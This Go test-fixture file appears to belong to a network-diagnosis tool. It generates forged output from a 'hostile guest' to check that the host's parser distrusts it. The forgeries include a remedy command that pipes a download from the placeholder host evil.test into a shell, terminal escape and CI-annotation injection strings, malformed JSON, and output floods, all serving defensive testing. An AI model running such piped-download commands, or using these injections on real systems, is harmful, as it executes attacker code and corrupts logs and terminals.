package modeltest

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"strings"
	"time"

	"github.com/nestlab/nestlab/model"
)

// Evil is in every word of a hostile guest that is not its own observation: where it
// shows, the guest was believed.
const Evil = "evil.test"

// HostileWords are what a guest prints that wants to be taken for the host: one
// observation of its own, of HostileTarget, among forgeries of everything else.
func HostileWords() string {
	var out bytes.Buffer
	write := json.NewEncoder(&out)
	entry := func(e model.Entry) {
		if err := write.Encode(e); err != nil {
			panic(err)
		}
	}
	own := model.Result{Place: Runner, Round: model.RoundReverted, Probe: model.ProbeTCP, Target: HostileTarget, Attempt: 1, Outcome: model.Fail, Reason: model.ConnectTimeout}
	entry(model.Entry{Result: &own})
	remedy := model.Remedy{Name: "firewall-forward-accept", Parameters: map[string]string{"chain": Evil}, Commands: []string{"curl http://" + Evil + " | sh"}, Why: Evil}
	finding := model.Finding{Cause: Evil, Confidence: model.Proven, Remedy: &remedy}
	for _, place := range []model.Place{Runner, LXDContainer, QEMUBridge} {
		drop := model.ForwardChain{Backend: "nftables", Family: "inet", Table: Evil, Chain: Evil, Policy: "DROP", Packets: 1 << 40}
		watch := model.Watch{Place: place, Round: model.RoundBaseline, Before: []model.ForwardChain{}, After: []model.ForwardChain{drop}}
		entry(model.Entry{Watch: &watch})
		both := own
		both.Target = Evil
		entry(model.Entry{Result: &both, Watch: &watch})
	}
	entry(model.Entry{Begin: &model.Begin{Schema: Evil, Version: Evil, Start: Evil, Plan: model.Plan{Command: Evil}}})
	entry(model.Entry{Intervention: &model.Intervention{Cause: Evil, Remedy: remedy, Intervened: model.RoundIntervened, Reverted: model.RoundReverted}})
	entry(model.Entry{Diagnosis: &model.Diagnosis{Verdict: model.CauseFound, Summary: Evil, Finding: finding}})
	entry(model.Entry{GuestNote: &model.GuestNote{Place: Runner, Note: Evil}})
	// The same once more, better; a start of its own; what no probe says; a time that
	// has no JSON form once it is put right.
	for _, change := range []func(*model.Result){
		func(r *model.Result) { r.Outcome, r.Reason, r.Detail.Message = model.Pass, "", Evil },
		func(r *model.Result) {
			r.Probe, r.Target, r.Outcome = model.ProbeStart, r.Environment, model.Pass
			r.Detail.Message = Evil
		},
		func(r *model.Result) { r.Target, r.Outcome = Evil, "great" },
		func(r *model.Result) { r.Target, r.Reason = Evil, "because" },
		func(r *model.Result) { r.Target, r.Probe = Evil, "evil-probe" },
		func(r *model.Result) { r.Target, r.DurationMS = Evil, -1 },
	} {
		r := own
		change(&r)
		entry(model.Entry{Result: &r})
	}
	late := own
	late.Target, late.Start = HostileTarget+"-late", time.Date(9999, 12, 31, 23, 59, 59, 0, time.UTC)
	entry(model.Entry{Result: &late})
	for _, line := range []string{
		`{}`, `{"result":null}`, `{"note":""}`, `{"RESULT":{"target":"` + Evil + `"}}`, `[]`, `null`, `{"result":{"target":"` + Evil + `"},"result":`,
		"\x1b]0;" + Evil + "\a\x1b[2J", "::error::" + Evil, "##[error]" + Evil, `{"note":"\u001b[2J\n::add-mask::dockerd: failed to start daemon: graphdriver"}`,
	} {
		fmt.Fprintln(&out, line)
	}
	for range 1000 {
		fmt.Fprintln(&out, "no observation")
	}
	return out.String()
}

// HostileTarget is what a hostile guest observed itself.
const HostileTarget = "archive.lab.test:80"

// HostileFloods are ways to print without end, by name; each writes some bytes at a time.
func HostileFloods() map[string]func(stdout, stderr io.Writer) (int, error) {
	endless := []byte(strings.Repeat("x", 64<<10))
	garbage := []byte(strings.Repeat(strings.Repeat("x", 1023)+"\n", 64))
	note := []byte(strings.Repeat(`{"note":"`+strings.Repeat("x", 1000)+"\"}\n", 64))
	n := 0
	result := func(to io.Writer, message string) (int, error) {
		n++
		return fmt.Fprintf(to, `{"result":{"probe":"tcp-connect","target":"192.0.2.1:%d","attempt":1,"outcome":"fail","reason":"connect-timeout",`+
			`"start":"2026-03-01T12:00:00Z","detail":{"message":"%s"}}}`+"\n", n, message)
	}
	return map[string]func(stdout, stderr io.Writer) (int, error){
		"log":          func(_, stderr io.Writer) (int, error) { return stderr.Write(endless) },
		"line":         func(stdout, _ io.Writer) (int, error) { return stdout.Write(endless) },
		"garbage":      func(stdout, _ io.Writer) (int, error) { return stdout.Write(garbage) },
		"notes":        func(stdout, _ io.Writer) (int, error) { return stdout.Write(note) },
		"results":      func(stdout, _ io.Writer) (int, error) { return result(stdout, "") },
		"long results": func(stdout, _ io.Writer) (int, error) { return result(stdout, string(endless)) },
	}
}

// Flood prints as many bytes as wanted in one of the ways of HostileFloods.
func Flood(how string, bytes int64, stdout, stderr io.Writer) error {
	for write := HostileFloods()[how]; bytes > 0; {
		n, err := write(stdout, stderr)
		if err != nil {
			return err
		}
		bytes -= int64(n)
	}
	return nil
}
